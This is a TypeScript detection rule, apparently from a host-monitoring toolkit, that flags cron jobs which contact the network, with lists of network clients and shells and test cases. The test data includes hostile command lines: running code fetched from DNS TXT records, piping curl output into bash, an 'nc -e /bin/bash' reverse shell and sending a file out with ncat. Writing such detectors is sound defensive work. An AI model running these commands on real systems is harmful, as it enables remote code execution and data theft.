import { commandsOf, isParted, isProgram } from '../../src/detect/reading/command.ts'
import { pipesInto, runsOutputOf } from '../../src/detect/reading/command-flow.ts'
import { cronCommand } from '../../src/detect/reading/cron.ts'
import { givesShellAway, runsDecodedCode, runsFetchedCode } from '../../src/detect/reading/remote-code.ts'
import { programNamed } from '../../src/detect/reading/words.ts'
import { rule, table } from '../../src/detect/rule.ts'

/** Programs that ask the DNS, which can carry code in TXT records. */
const RESOLVERS = ['dig', 'drill', 'host', 'kdig', 'nslookup'] as const
/** Programs that fetch, or carry a connection. */
const CLIENTS = [
  'curl',
  'wget',
  'wget2',
  'aria2c',
  'fetch',
  'ftp',
  'tftp',
  'lwp-request',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
] as const
const SHELLS = ['sh', 'bash', 'dash', 'zsh', 'ksh', 'fish', 'python', 'perl', 'ruby', 'php', 'node'] as const
/** Without any of these a line reaches nothing, unless it names an address. */
const NAMES = programNamed(...CLIENTS, ...RESOLVERS)
const ADDRESS = /^["']?(?:https?|ftp):\/\//i

type Way = 'runs code out of the DNS' | 'pipes into a shell' | 'reaches out to the network'

export default rule({
  id: 'posix.cron-uses-network',
  title: 'Cron job reaches out to the network',
  severity: 'info',
  on: table('crontab'),
  attack: ['T1053.003', 'T1071.001', 'T1071.004'],
  detect: ({ columns }) => wayOf(cronCommand(columns)) !== null,
  // These are told by posix.cron-runs-remote-code, as what they are.
  exclude: ({ columns }) => {
    const line = cronCommand(columns)
    return runsFetchedCode(line) || runsDecodedCode(line) || givesShellAway(line)
  },
  dynamicSeverity: ({ columns }) => {
    const way = wayOf(cronCommand(columns))
    if (way === 'runs code out of the DNS') return 'critical'
    return way === 'pipes into a shell' ? 'medium' : 'info'
  },
  alertTitle: ({ host, columns }) =>
    `Cron on ${host} ${wayOf(cronCommand(columns)) ?? 'reaches out'}: ${columns.command}`,
  dedup: ({ hostId, columns }) => `${hostId} ${columns.command}`,
  dedupPeriod: '24h',
  context: ({ columns }) => ({
    command: columns.command,
    crontab: columns.path,
    way: wayOf(cronCommand(columns)) ?? '',
  }),
  means:
    'A job talks to another host by itself: it fetches, sends, or asks. Most are what they seem, and this is how programs that were planted call home, too. A job that makes code of what the DNS answers has no innocent reason.',
  check: 'SELECT event, minute, hour, day_of_month, month, day_of_week, command, path FROM crontab;',
  benign: 'Pings of a monitoring, jobs of a web site, lists and backups that are fetched or sent.',
  runbook:
    'Is the other side one that this host should talk to, and is the job one that somebody knows? If not: who wrote the crontab and when (its owner and times, shell_history, last), what did it fetch, and where does that lie now.',
  references: [
    'https://attack.mitre.org/techniques/T1053/003/',
    'https://attack.mitre.org/techniques/T1071/004/',
  ],
  replaces: ['Osquery.SuspiciousCron'],
  tests: [
    {
      name: 'fetches a list',
      match: true,
      columns: {
        command: 'root curl -so /var/lib/app/list.txt http://example.com/list.txt',
        path: '/etc/cron.d/app',
      },
      title:
        'Cron on test-host reaches out to the network: root curl -so /var/lib/app/list.txt http://example.com/list.txt',
      dedup: 'test-host-id root curl -so /var/lib/app/list.txt http://example.com/list.txt',
      severity: 'info',
      context: {
        command: 'root curl -so /var/lib/app/list.txt http://example.com/list.txt',
        crontab: '/etc/cron.d/app',
        way: 'reaches out to the network',
      },
    },
    {
      name: 'code out of the DNS',
      match: true,
      severity: 'critical',
      columns: {
        command: '/bin/sh -c "sh -c $(dig example.com TXT +short @192.0.2.53)"',
        path: '/etc/crontab',
      },
    },
    {
      name: 'pipes into a shell',
      match: true,
      severity: 'medium',
      columns: { command: '/opt/x | bash >/dev/null' },
    },
    { name: 'a program by its path', match: true, columns: { command: '/usr/bin/curl -s example.com' } },
    { name: 'a connection', match: true, columns: { command: 'ncat 192.0.2.1 80 < /etc/hostname' } },
    {
      name: 'an address for a program of one’s own',
      match: true,
      columns: { command: '/opt/app/report https://example.com' },
    },
    {
      name: 'an address without encryption',
      match: true,
      columns: { command: '/opt/app/report http://example.com' },
    },
    { name: 'a quote that never closes', match: true, columns: { command: 'curl "http://example.com' } },
    {
      name: 'there before anyone looked',
      match: true,
      counter: '0',
      columns: { command: 'wget -q example.com' },
    },
    {
      name: 'runs what it fetches',
      match: false,
      columns: { command: 'curl -s https://example.com/a | bash' },
    },
    { name: 'a shell for somebody else', match: false, columns: { command: 'nc -e /bin/bash 192.0.2.1 80' } },
    {
      name: 'a pipe into a word that ends alike',
      match: false,
      columns: { command: 'crontab -l | grep refresh' },
    },
    { name: 'quotes', match: false, columns: { command: "runit 'go fast'" } },
    { name: 'only spoken of', match: false, columns: { command: 'grep curl /var/log/syslog' } },
    { name: 'a log in /tmp', match: false, columns: { command: '/usr/bin/job > /tmp/job.log 2>&1' } },
    {
      name: 'the daily jobs of the distribution',
      match: false,
      columns: { command: 'root cd / && run-parts --report /etc/cron.hourly', path: '/etc/crontab' },
    },
    { name: 'no command', match: false, columns: { path: '/etc/crontab' } },
    { name: 'the job is gone', match: false, action: 'removed', columns: { command: 'curl -s example.com' } },
  ],
})

function wayOf(line: string): Way | null {
  if (runsOutputOf(line, ...RESOLVERS)) return 'runs code out of the DNS'
  if (pipesInto(line, ...SHELLS)) return 'pipes into a shell'
  if (!NAMES.test(line) && !line.includes('://') && !isParted(line)) return null
  const reaches = commandsOf(line).some(
    command => isProgram(command, ...CLIENTS, ...RESOLVERS) || command.args.some(arg => ADDRESS.test(arg)),
  )
  return reaches ? 'reaches out to the network' : null
}
